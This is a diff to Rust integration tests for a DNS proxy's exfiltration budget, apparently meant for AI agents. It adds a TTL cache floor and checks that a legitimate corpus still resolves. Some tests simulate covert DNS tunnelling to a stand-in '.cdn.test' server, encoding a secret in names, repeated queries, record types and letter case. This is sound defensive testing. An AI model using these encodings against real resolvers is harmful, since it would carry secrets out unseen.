@@ -219,15 +219,16 @@ fn new_names_are_cut_at_the_hard_limit_while_seen_names_keep_working() {
     assert!((40..=70).contains(&passed), "{passed} names passed");
     assert_eq!(lab.asked(".t.cdn.test"), before);
 
-    // Cooldown: even a short new name is refused; a seen one (TTL 0, so it
-    // goes upstream again) still resolves; other domains are untouched.
+    // Cooldown: even a short new name is refused; a seen one still
+    // resolves, from the cache (its TTL 0 answer is held min_ttl_secs), so
+    // nothing leaves; other domains are untouched.
     assert_eq!(
         rcode(dns.udp, "x.cdn.test", RecordType::A),
         ResponseCode::Refused
     );
     let asked_seen = lab.up.count(seen);
     assert_eq!(rcode(dns.udp, seen, RecordType::A), ResponseCode::NoError);
-    assert_eq!(lab.up.count(seen), asked_seen + 1, "seen, not cached");
+    assert_eq!(lab.up.count(seen), asked_seen, "held, not asked again");
     assert_eq!(
         rcode(dns.udp, "fresh.other.test", RecordType::A),
         ResponseCode::NoError
@@ -305,7 +306,12 @@ fn case_variants_and_names_under_a_public_suffix_are_charged() {
     assert_eq!(lab.asked(".github.io"), NAMES);
     drop(dns);
 
-    let (dns, _) = lab.serve("on", &policy("  soft_bytes: 1024\n  hard_bytes: 2048\n"));
+    // No floor: with one, every case variant after the first is a cache
+    // hit (the cache ignores case) and none leaves at all.
+    let (dns, _) = lab.serve(
+        "on",
+        &policy("  soft_bytes: 1024\n  hard_bytes: 2048\n  min_ttl_secs: 0\n"),
+    );
     let case_passed = send(&dns, &case);
     let psl_passed = send(&dns, &psl);
     eprintln!("of {NAMES}: {case_passed} case variants and {psl_passed} github.io names passed");
@@ -323,6 +329,14 @@ fn case_variants_and_names_under_a_public_suffix_are_charged() {
         2,
         "one alert per budget:\n{stderr}"
     );
+    drop(dns);
+
+    // Defaults: the first variant's answer is held 30 s; the other 199 are
+    // answered from the cache and carry nothing out.
+    let before = lab.asked(".c.cdn.test");
+    let (dns, _) = lab.serve("held", &policy("  soft_bytes: 8192\n"));
+    assert_eq!(send(&dns, &case), NAMES);
+    assert_eq!(lab.asked(".c.cdn.test"), before + 1);
 }
 
 /// The zones behind every name of the corpus.
@@ -351,7 +365,8 @@ fn the_legit_corpus_replays_without_an_alert_or_a_denial() {
     // Default limits: what a real workload must stay under.
     let (dns, audit) = lab.serve("corpus", &policy);
     // 200 new names a second, a busy agent's peak (the budget drains with
-    // time, so replaying faster than real is the harder test).
+    // time, so replaying faster than real is the harder test), each asked
+    // as a browser does: A, AAAA and HTTPS, three questions upstream.
     let started = Instant::now();
     for (i, n) in names.iter().enumerate() {
         let due = started + Duration::from_millis(5 * i as u64);
@@ -361,9 +376,44 @@ fn the_legit_corpus_replays_without_an_alert_or_a_denial() {
         let m = query(dns.udp, n, RecordType::A);
         assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{n}");
         assert_eq!(answers(&m).len(), 1, "{n}");
+        for t in [RecordType::AAAA, RecordType::HTTPS] {
+            assert_ne!(rcode(dns.udp, n, t), ResponseCode::Refused, "{n} {t}");
+        }
     }
-    let lines = audit_lines(&audit, names.len());
-    assert_eq!(lines.len(), names.len());
+    let upstream = lab.up.names().len();
+    assert_eq!(upstream, 3 * names.len(), "each question left once");
+    // Browsers and SDKs ask the same names again and again: every tenth
+    // of the last 1,000 names (asked within the 30 s floor), five more
+    // times, in both address types. The zone answers with TTL 0, so
+    // without the floor each would go upstream again.
+    let mut repeats = 0;
+    for _ in 0..5 {
+        for n in names.iter().rev().take(1000).step_by(10) {
+            for t in [RecordType::A, RecordType::AAAA] {
+                assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
+                repeats += 1;
+            }
+        }
+    }
+    assert_eq!(lab.up.names().len(), upstream, "repeats were held");
+    // Later, every tenth name again, once the first ones' floor has run
+    // out (the replay takes longer than 30 s): those go upstream again,
+    // are charged as re-asks, and still raise nothing.
+    let waited = started + Duration::from_secs(31);
+    if let Some(wait) = waited.checked_duration_since(Instant::now()) {
+        std::thread::sleep(wait);
+    }
+    for n in names.iter().step_by(10) {
+        for t in [RecordType::A, RecordType::AAAA] {
+            assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
+            repeats += 1;
+        }
+    }
+    let again = lab.up.names().len() - upstream;
+    eprintln!("corpus: {upstream} questions upstream, then {again} re-asked after the floor");
+    assert!(again > 0, "positive control: the floor ran out for some");
+    let lines = audit_lines(&audit, 3 * names.len() + repeats);
+    assert_eq!(lines.len(), 3 * names.len() + repeats);
     assert!(
         lines
             .iter()
@@ -546,7 +596,9 @@ fn re_asked_names_carry_no_more_than_the_budget_to_a_ttl0_name_server() {
     let secret = secret(SECRET, 11);
     let names: Vec<String> = (0..=255u8).map(|i| format!("{i:02x}.k.cdn.test")).collect();
     let policy = |exfil: &str| {
-        format!("agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}")
+        format!(
+            "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
+        )
     };
     // Returns the bytes the attacker decoded and the questions refused.
     let run = |exfil: &str| {
@@ -583,13 +635,19 @@ fn re_asked_names_carry_no_more_than_the_budget_to_a_ttl0_name_server() {
 
     // Positive control, the budget off: the whole secret arrives.
     let (out, refused) = run("  budget: off\n");
-    eprintln!("budget off: {} of {SECRET} bytes out, {refused} refused", out.len());
+    eprintln!(
+        "budget off: {} of {SECRET} bytes out, {refused} refused",
+        out.len()
+    );
     assert_eq!(out, secret, "the channel works");
     assert!(out.len() > DEFAULT_HARD_BYTES as usize);
 
     // The charge alone (no floor): each re-ask costs the choice it carries.
     let (out, refused) = run("  min_ttl_secs: 0\n");
-    eprintln!("charge, no floor: {} bytes out, {refused} refused", out.len());
+    eprintln!(
+        "charge, no floor: {} bytes out, {refused} refused",
+        out.len()
+    );
     assert!(out.len() < DEFAULT_HARD_BYTES as usize, "{}", out.len());
     assert!(refused > 0);
     assert_eq!(out[..], secret[..out.len()], "what left is a prefix");
@@ -644,7 +702,11 @@ fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() 
                 .fold(0, |v, b| (v << 1) | u64::from(b.is_ascii_uppercase()));
             return Some(((case << 2) | t, 10));
         }
-        let w: u64 = name.strip_prefix('w')?.strip_suffix(".m.cdn.test")?.parse().ok()?;
+        let w: u64 = name
+            .strip_prefix('w')?
+            .strip_suffix(".m.cdn.test")?
+            .parse()
+            .ok()?;
         Some(((w << 2) | t, 8))
     };
     let run = |exfil: &str| {
@@ -662,7 +724,10 @@ fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() 
         let (mut at, mut round, mut in_a_row, mut refused) = (0, 0usize, 0, 0);
         while at < bits.len() && in_a_row < 500 {
             let (name, qtype) = match round % 3 {
-                0 => (format!("{:016x}.n.m.cdn.test", take(&mut at, 64)), RecordType::A),
+                0 => (
+                    format!("{:016x}.n.m.cdn.test", take(&mut at, 64)),
+                    RecordType::A,
+                ),
                 1 => {
                     let v = take(&mut at, 8);
                     (pool[(v >> 2) as usize].clone(), TYPES[(v & 3) as usize])
@@ -716,13 +781,20 @@ fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() 
                 decoded.push(((v >> i) & 1) as u8);
             }
         }
-        assert_eq!(decoded[..bits.len()], bits[..], "the decoding is the secret");
+        assert_eq!(
+            decoded[..bits.len()],
+            bits[..],
+            "the decoding is the secret"
+        );
     }
 
     for exfil in ["  min_ttl_secs: 0\n", ""] {
         let (out, refused, sent) = run(exfil);
         eprintln!("mix, {exfil:?}: {out} bytes out of {sent} sent, {refused} refused");
-        assert!(out < DEFAULT_HARD_BYTES as usize, "{exfil:?}: {out} bytes out");
+        assert!(
+            out < DEFAULT_HARD_BYTES as usize,
+            "{exfil:?}: {out} bytes out"
+        );
     }
 }
 
@@ -765,5 +837,9 @@ fn tunnel_shaped_names_raise_an_alert_early() {
     eprintln!("tunnel shape: first marked name is #{first:?} of 300");
     assert_eq!(first, Some(7), "the 8th tunnel-shaped name is marked");
     let stderr = dns.stderr();
-    assert_eq!(stderr.matches("shaped like a DNS tunnel").count(), 1, "{stderr}");
+    assert_eq!(
+        stderr.matches("shaped like a DNS tunnel").count(),
+        1,
+        "{stderr}"
+    );
 }
